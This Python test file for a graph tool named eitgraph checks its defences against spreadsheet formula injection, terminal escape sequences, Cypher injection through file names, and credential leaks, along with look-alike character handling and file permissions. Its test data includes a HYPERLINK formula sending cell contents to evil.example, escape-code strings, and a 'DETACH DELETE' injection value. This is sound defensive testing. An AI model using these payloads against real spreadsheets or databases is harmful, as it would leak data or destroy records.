"""What eitgraph protects (issue #16): exports that cannot attack their reader, a terminal that never
receives escape sequences, data folders readable by their owner only, credentials that never show,
invisible differences in ids, and an out-of-memory store that says what to change. What already held is
kept under test too: ports on 127.0.0.1 only, the generated password in no log."""

from __future__ import annotations

import csv
import datetime as dt
import io
import json
import os
import stat
import subprocess
import sys
import traceback
import zipfile
from pathlib import Path

import openpyxl
import pandas as pd
import pytest
from click.testing import CliRunner
from conftest import load_haut_rhin
from loadhelpers import make_siret, write_csv

import eitgraph
from eitgraph.cli import cli
from eitgraph.cli.output import render
from eitgraph.config import StoreConfig
from eitgraph.load.identity import name_key, org_id
from eitgraph.safety.private import secure_tree
from eitgraph.safety.writing import csv_frame, spreadsheet_text, terminal_safe, write_frame_xlsx
from eitgraph.values import clean_text, fold, parse_insee, parse_siret

HOSTILE = '=HYPERLINK("http://evil.example/?"&A1,"clic")'
ESCAPES = "Suez\x1b[2J\x1b]0;pwned\x07\x9b31m"


def run(kb, *args):
    return CliRunner().invoke(cli, ["--data-dir", str(kb.config.data_dir), "--database", kb.config.database, *args])


# -- 1. exports ----------------------------------------------------------------------------------------

@pytest.mark.parametrize("text, written", [
    ("=1+1", "'=1+1"), ("+33 3 89 37 00 00", "'+33 3 89 37 00 00"), ("-3 t", "'-3 t"), ("@SUM(A1)", "'@SUM(A1)"),
    ("\tx", "'\tx"), ("\rx", "'\rx"), ("  =cmd", "'  =cmd"), (HOSTILE, "'" + HOSTILE),
    ("-3", "-3"), ("+33", "+33"), ("-1,5", "-1,5"), ("1e-3", "1e-3"), ("Suez", "Suez"), ("a=b", "a=b"), ("", ""),
    ("A\x1b[31mB\x07", "A[31mB"),
])
def test_csv_cells_are_neutralised(text, written):
    assert spreadsheet_text(text) == written


def test_csv_export_keeps_numbers_numbers():
    df = pd.DataFrame({"n": [1, -2, 3], "x": [0.5, -1.25, None], "name": [HOSTILE, "-3 t", "-3"],
                       "tags": [["=a", "b"], [], ["c"]]})
    text = render(df, "csv")
    assert text.splitlines() == [
        "n,x,name,tags",
        f"1,0.5,\"'{HOSTILE.replace(chr(34), chr(34) * 2)}\",\"'=a, b\"",
        "-2,-1.25,'-3 t,",
        "3,,-3,c",
    ]
    assert csv_frame(pd.DataFrame({"=cmd": [1]})).columns.tolist() == ["'=cmd"]   # headers too


def test_xlsx_export_stores_text_as_text_and_numbers_as_numbers(tmp_path):
    df = pd.DataFrame({"name": [HOSTILE, ESCAPES, "x" * 40_000], "n": [-3, 2.5, 7], "neg_text": ["-3 t", "-3", None],
                       "when": [dt.datetime(2024, 3, 1, tzinfo=dt.UTC), dt.date(2024, 3, 1), None],
                       "tags": [["a", "=b"], [], None]})
    out = write_frame_xlsx(df, tmp_path / "r.xlsx", sheet="a/b:c[d]")
    ws = openpyxl.load_workbook(out).active
    assert ws.title == "a b c d"
    a2, a3, a4 = ws["A2"], ws["A3"], ws["A4"]
    assert (a2.value, a2.data_type, a2.quotePrefix) == (HOSTILE, "s", True)        # text, never a formula
    assert a3.value == "Suez[2J]0;pwned31m" and a3.data_type == "s"               # control characters gone
    assert len(a4.value) == 32_767 and a4.value.endswith("…")
    assert [ws[f"B{i}"].value for i in (2, 3, 4)] == [-3, 2.5, 7] and ws["B2"].data_type == "n"
    assert (ws["C2"].value, ws["C2"].data_type, ws["C2"].quotePrefix) == ("-3 t", "s", True)
    assert ws["C3"].value == "-3" and ws["C4"].value is None
    assert ws["D2"].value == "2024-03-01T00:00:00+00:00" and ws["D3"].value == dt.datetime(2024, 3, 1)
    assert ws["E2"].value == "a, =b" and ws["E2"].data_type == "s"


def test_terminal_and_json_never_carry_escape_sequences():
    df = pd.DataFrame({"name": [ESCAPES, "abc\u202edcba"]})
    table = render(df, "table")
    assert "\x1b" not in table and "\x07" not in table and "\x9b" not in table and "\u202e" not in table
    assert "\\x1b[2J" in table and "\\u202e" in table
    text = render(df, "json")
    assert "\x1b" not in text and "\x9b" not in text and "\u202e" not in text
    assert json.loads(text)[0]["name"] == ESCAPES                                     # the same value, escaped
    assert terminal_safe("ligne 1\nligne 2\tfin") == "ligne 1\nligne 2\tfin"


@pytest.fixture(scope="module")
def kb(new_kb, haut_rhin):
    kb = new_kb()
    load_haut_rhin(kb, haut_rhin)
    return kb


def test_control_characters_are_removed_at_load_and_said(kb, tmp_path):
    path = write_csv(tmp_path / "acteurs.csv", [["Raison sociale", "Type d'acteur", "Code INSEE"],
                                                [ESCAPES, "Entreprise", "68063"], [HOSTILE, "Entreprise", "68334"]])
    result = run(kb, "load", "stakeholders", str(path))
    assert result.exit_code == 0, result.output
    assert "\x1b" not in result.output and "control characters" in result.output
    report = kb.datasets()
    names = sorted(kb.cypher("MATCH (o:Organisation) WHERE 'stakeholders:acteurs' IN o.sources "
                             "RETURN o.name AS n")["n"])
    assert names == sorted([HOSTILE, "Suez[2J]0;pwned31m"])
    assert any(d["warnings"] for d in report)


def test_control_characters_in_a_workbook_are_removed_too(kb, tmp_path):
    """XML forbids most C0 controls, but C1 ones (U+009B is the terminals' one-byte escape) are valid in a sheet."""
    wb = openpyxl.Workbook()
    wb.active.append(["Raison sociale", "Type d'acteur", "Code INSEE"])
    wb.active.append(["Suez CSI31m Est", "Entreprise", "68063"])
    saved = tmp_path / "saved.xlsx"
    wb.save(saved)
    path = tmp_path / "acteurs.xlsx"
    with zipfile.ZipFile(saved) as zin, zipfile.ZipFile(path, "w") as zout:
        for item in zin.infolist():
            data = zin.read(item.filename)
            zout.writestr(item, data.replace(b"CSI", "\u009b".encode()))
    report = kb.load("stakeholders", path, dry_run=True)
    assert [(n.code, n.location.row, n.location.column) for n in report.notes
            if n.code == "control_characters"] == [("control_characters", 2, "Raison sociale")]


def test_exports_of_hostile_names_already_in_the_graph(kb, tmp_path):
    """Data written before control characters were refused, or by hand: every output stays safe."""
    kb.cypher("CREATE (:Organisation:Company {id: 'legacy', name: $n, kind: 'company'}), "
              "(:Organisation:Company {id: 'legacy-2', name: $h, kind: 'company'})", n=ESCAPES + HOSTILE, h=HOSTILE)
    xlsx = tmp_path / "orgs.xlsx"
    result = run(kb, "query", "organisations", "--format", "xlsx", "--out", str(xlsx))
    assert result.exit_code == 0, result.output
    cells = [c for row in openpyxl.load_workbook(xlsx).active.iter_rows() for c in row if c.value]
    legacy = next(c for c in cells if str(c.value).startswith("Suez"))
    assert legacy.value == "Suez[2J]0;pwned31m" + HOSTILE and legacy.data_type == "s"
    assert all(c.data_type != "f" for c in cells)                                      # no formula anywhere
    csv_out = tmp_path / "orgs.csv"
    assert run(kb, "query", "organisations", "--format", "csv", "--out", str(csv_out)).exit_code == 0
    cells = [c for row in csv.reader(io.StringIO(csv_out.read_text(encoding="utf-8"))) for c in row]
    assert "'" + ESCAPES.replace("\x1b", "").replace("\x07", "").replace("\x9b", "") + HOSTILE not in cells
    assert "Suez[2J]0;pwned31m" + HOSTILE in cells                  # starts with a letter: left as it is
    assert "'" + HOSTILE in cells and not any(c.startswith(("=", "+", "@")) for c in cells)
    table = run(kb, "query", "organisations")
    assert table.exit_code == 0 and "\x1b" not in table.output and "\\x1b[2J" in table.output
    kb.cypher("MATCH (o:Organisation) WHERE o.id IN ['legacy', 'legacy-2'] DETACH DELETE o")


def test_indicators_export_goes_through_the_safe_writer(kb, tmp_path):
    out = tmp_path / "indicateurs.csv"
    result = run(kb, "indicators", "--format", "csv", "--out", str(out))
    assert result.exit_code == 0, result.output
    rows = out.read_text(encoding="utf-8").splitlines()
    assert len(rows) > 5 and not any(c.startswith(("=", "@")) for r in rows for c in r.split(","))


def test_the_rejects_workbook_is_private_and_holds_text(kb, tmp_path):
    path = write_csv(tmp_path / "acteurs.csv", [["Raison sociale", "Type d'acteur", "Code INSEE", "SIRET"],
                                                ["Ateliers du Rhin", "Entreprise", "68063", ""],
                                                [HOSTILE, "Entreprise", "68063", "=1+1"]])
    old = os.umask(0o022)
    try:
        report = kb.load("stakeholders", path, on_error="skip", dataset_id="rejets")
    finally:
        os.umask(old)
    target = Path(report.errors_file)
    assert stat.S_IMODE(target.stat().st_mode) == 0o600
    ws = openpyxl.load_workbook(target).active
    assert ws["A2"].value == HOSTILE and ws["A2"].data_type == "s" and ws["D2"].data_type == "s"
    kb.drop("rejets", force=True)


# -- 2. invisible differences and other scripts ---------------------------------------------------------

SIRET = make_siret("73282932", "0007")


@pytest.mark.parametrize("text", [
    SIRET, "\ufeff" + SIRET, SIRET[:3] + "\u200b" + SIRET[3:], SIRET[:9] + "\u00a0" + SIRET[9:],
    "".join(chr(0xFF10 + int(c)) for c in SIRET),                      # full-width digits
    "".join(chr(0x0660 + int(c)) for c in SIRET),                      # Arabic-Indic digits
    SIRET[:5] + "\u2060\u200d" + SIRET[5:],
])
def test_a_siret_is_the_same_whatever_invisible_or_look_alike_characters_it_holds(text):
    assert parse_siret(text) == SIRET


def test_codes_and_names_without_invisible_differences():
    assert parse_insee("\u200b６８０６３") == parse_insee("68063") == "68063"
    assert clean_text("\ufeffent-01\u200b") == "ent-01"
    assert clean_text("Ateliers\u00a0du\u202fRhin") == "Ateliers du Rhin"
    assert fold("Su\u200bez") == fold("SUEZ") == fold("Suеz") == fold("Ѕuez") == "suez"   # Cyrillic е, Ѕ
    assert name_key("Cœur d'Alsace SAS") == name_key("Coeur d'Alsace")


def test_names_with_no_latin_letter_do_not_collide():
    assert name_key("Газпром") != name_key("Роснефть") and name_key("Газпром")
    assert fold("東京ガス") != fold("東京カス")
    a, b = org_id({"name": "★★★", "commune_code": "68063"}), org_id({"name": "☆☆☆", "commune_code": "68063"})
    assert a.startswith("org-") and b.startswith("org-") and a != b                      # the digest fallback
    assert org_id({"name": "★★★"}) == org_id({"name": "★★★"})                           # stable


def test_one_organisation_whatever_invisible_characters_its_name_holds(kb, tmp_path):
    header = ["Identifiant", "Raison sociale", "Type d'acteur", "Code INSEE"]
    kb.load("stakeholders", write_csv(tmp_path / "invisibles.csv", [
        header, ["", "Газпром", "Entreprise", "68063"], ["", "Роснефть", "Entreprise", "68063"],
        ["\ufeffent-01", "Ateliers Ouest", "Entreprise", "68063"],
        ["", "Papeterie\u00a0du Rhin", "Entreprise", "68063"],
    ]), dataset_id="invisibles")
    kb.load("stakeholders", write_csv(tmp_path / "invisibles-2.csv", [
        header, ["", "Газпром", "Entreprise", "68063"], ["", "Роснефть", "Entreprise", "68063"],
        ["ent-01", "Ateliers Ouest", "Entreprise", "68063"], ["", "Papeterie du\u200b Rhin", "Entreprise", "68063"],
    ]), dataset_id="invisibles-2")
    orgs = kb.cypher("MATCH (o:Organisation) WHERE 'invisibles' IN o.sources OR 'invisibles-2' IN o.sources "
                     "RETURN o.id AS id, o.name AS name, o.sources AS sources ORDER BY id")
    # Two names in Cyrillic in one commune: two organisations. Each named in both files: one node each.
    assert sorted(orgs["name"]) == sorted(["Газпром", "Роснефть", "Ateliers Ouest", "Papeterie du Rhin"]), orgs
    assert all(len(s) == 2 for s in orgs["sources"])
    assert "ent-01" in set(orgs["id"])
    kb.drop("invisibles-2", force=True)
    kb.drop("invisibles", force=True)


def test_a_file_name_and_dataset_id_holding_cypher_stay_inert(kb, tmp_path):
    name = "x'}) MATCH (n) DETACH DELETE n RETURN 1 AS `"
    path = write_csv(tmp_path / f"{name}.csv", [["Raison sociale", "Type d'acteur", "Code INSEE"],
                                                ["Ateliers Nord", "Entreprise", "68063"]])
    communes = kb.status()["nodes"]["Commune"]
    result = run(kb, "load", "stakeholders", str(path))
    assert result.exit_code == 0, result.output
    assert kb.status()["nodes"]["Commune"] == communes
    datasets = {d["dataset"] for d in kb.datasets()}
    assert f"stakeholders:{name}" in datasets
    result = run(kb, "drop", f"stakeholders:{name}", "--yes")
    assert result.exit_code == 0 and kb.status()["nodes"]["Commune"] == communes


# -- 3. private data ------------------------------------------------------------------------------------------

def _wide_entries(root: Path) -> list[str]:
    out = []
    for folder, dirs, files in os.walk(root):
        for name in dirs:
            mode = stat.S_IMODE(os.lstat(os.path.join(folder, name)).st_mode)
            if mode != 0o700:
                out.append(f"{oct(mode)} {os.path.join(folder, name)}")
        for name in files:
            mode = stat.S_IMODE(os.lstat(os.path.join(folder, name)).st_mode)
            if mode & 0o077:
                out.append(f"{oct(mode)} {os.path.join(folder, name)}")
    return out


@pytest.mark.slow
def test_everything_in_a_data_folder_is_its_owners_only_whatever_the_umask(tmp_path, haut_rhin):
    """A real command in its own process (the JVM creates its files itself), under umask 022: after a load
    with a copy kept, logs written and a database created, every folder is 0700 and every file 0600."""
    data = tmp_path / "eitgraph-data"
    acteurs = write_csv(tmp_path / "acteurs.csv", [["Raison sociale", "Type d'acteur", "Code INSEE", "Email"],
                                                   ["Ateliers du Rhin", "Entreprise", "68063", "marie@example.org"]])
    script = (
        "import os, sys; os.umask(0o022); from eitgraph.cli import main; "
        "sys.argv = ['eitgraph', '--data-dir', sys.argv[1]] + sys.argv[2:]; main()")
    for args in (["load", "territory", str(haut_rhin), "-o", "departement=68"], ["load", "stakeholders", str(acteurs)],
                 ["status"]):
        done = subprocess.run([sys.executable, "-c", script, str(data), *args], capture_output=True, text=True,
                              timeout=600)
        assert done.returncode == 0, done.stderr[-2000:]
    assert stat.S_IMODE(data.stat().st_mode) == 0o700
    assert (data / "files").is_dir() and (data / "logs").is_dir() and (data / "arcadedb" / "databases").is_dir()
    assert _wide_entries(data) == []


def test_server_json_is_private_even_when_it_existed_wider(tmp_path):
    data = tmp_path / "store"
    data.mkdir(mode=0o755)
    (data / "server.json").write_text("{}")
    os.chmod(data / "server.json", 0o644)
    with eitgraph.open(data_dir=data, database="d") as kb:
        assert stat.S_IMODE((data / "server.json").stat().st_mode) == 0o600
        assert stat.S_IMODE(data.stat().st_mode) == 0o700
        assert stat.S_IMODE((data / "eitgraph.lock").stat().st_mode) == 0o600
        kb.status()
    assert _wide_entries(data) == []


def test_secure_tree_leaves_other_folders_and_links_alone(tmp_path):
    outside = tmp_path / "outside.txt"
    outside.write_text("x")
    os.chmod(outside, 0o644)
    root = tmp_path / "root"
    root.mkdir()
    (root / "link").symlink_to(outside)
    secure_tree(root, full=True)
    assert stat.S_IMODE(outside.stat().st_mode) == 0o644


# -- 4. credentials -------------------------------------------------------------------------------------------

def test_a_uri_with_credentials_never_shows_its_password(monkeypatch):
    cfg = StoreConfig.resolve(uri="bolt://neo:s3cret-pw@127.0.0.1:9", env={})
    assert (cfg.uri, cfg.username, cfg.password) == ("bolt://127.0.0.1:9", "neo", "s3cret-pw")
    assert "s3cret" not in cfg.describe() and "s3cret" not in repr(cfg)
    assert StoreConfig.resolve(uri="bolt://neo:x@db:7687", password="given", env={}).password == "given"
    direct = StoreConfig(uri="bolt://neo:s3cret-pw@db:7687")
    assert (direct.uri, direct.username, direct.password) == ("bolt://db:7687", "neo", "s3cret-pw")
    for args in (["--uri", "bolt://neo:s3cret-pw@127.0.0.1:9", "status"],
                 ["--uri", "nonsense://neo:s3cret-pw@127.0.0.1:9", "status"],
                 ["--debug", "--uri", "bolt://neo:s3cret-pw@127.0.0.1:9", "status"],
                 ["--debug", "--uri", "nonsense://neo:s3cret-pw@host:1", "query", "communes"]):
        result = CliRunner().invoke(cli, args)
        assert result.exit_code == 1, result.output
        shown = result.output + "".join(traceback.format_exception(result.exception))
        assert "s3cret" not in shown, shown
        if "--debug" not in args:
            assert "Traceback" not in result.output and "Error:" in result.output
    monkeypatch.setenv("NEO4J_URI", "neo4j://neo:s3cret-pw@127.0.0.1:9")
    result = CliRunner().invoke(cli, ["status"])
    assert result.exit_code == 1 and "s3cret" not in result.output and "as neo" in result.output


def test_ports_listen_on_localhost_only_and_the_password_is_in_no_log(kb, store_dir):
    """Every socket this process listens on (Bolt, ArcadeDB's HTTP) is bound to 127.0.0.1; the generated
    password is in server.json (0600) and nowhere in the logs."""
    inodes = set()
    for fd in os.listdir("/proc/self/fd"):
        try:
            target = os.readlink(f"/proc/self/fd/{fd}")
        except OSError:
            continue
        if target.startswith("socket:["):
            inodes.add(target[8:-1])
    listening = []
    for table in ("/proc/self/net/tcp", "/proc/self/net/tcp6"):
        with open(table) as fh:
            for line in fh.readlines()[1:]:
                fields = line.split()
                if fields[3] == "0A" and fields[9] in inodes:          # LISTEN, one of ours
                    listening.append(fields[1].split(":")[0])
    assert listening, "the embedded server listens on something"
    loopback = {"0100007F", "0000000000000000FFFF00000100007F", "00000000000000000000000001000000"}
    assert set(listening) <= loopback, listening
    password = json.loads((store_dir / "server.json").read_text())["password"]
    assert stat.S_IMODE((store_dir / "server.json").stat().st_mode) == 0o600
    for folder in (store_dir / "logs", store_dir / "arcadedb" / "log"):
        for path in folder.rglob("*"):
            if path.is_file():
                assert password not in path.read_text(errors="replace"), path


# -- 5. out of memory ------------------------------------------------------------------------------------------

@pytest.mark.slow
def test_a_load_that_exhausts_the_heap_names_the_setting_to_change(tmp_path):
    rows = [["Raison sociale", "Type d'acteur", "Code INSEE", "Commentaire"]]
    rows += [[f"Entreprise {i} " + "x" * 60, "Entreprise", "", "commentaire " * 25] for i in range(60_000)]
    path = write_csv(tmp_path / "enorme.csv", rows)
    env = {**os.environ, "EITGRAPH_HEAP": "40m"}
    done = subprocess.run([sys.executable, "-m", "eitgraph.cli", "--data-dir", str(tmp_path / "data"), "load",
                           "stakeholders", str(path)], capture_output=True, text=True, timeout=900, env=env)
    assert done.returncode == 1, done.stdout[-2000:] + done.stderr[-2000:]
    error = [line for line in done.stderr.splitlines() if line.startswith("Error:")]
    assert len(error) == 1 and "ran out of memory" in error[0] and "EITGRAPH_HEAP" in error[0], done.stderr[-3000:]
    assert "Traceback" not in done.stderr
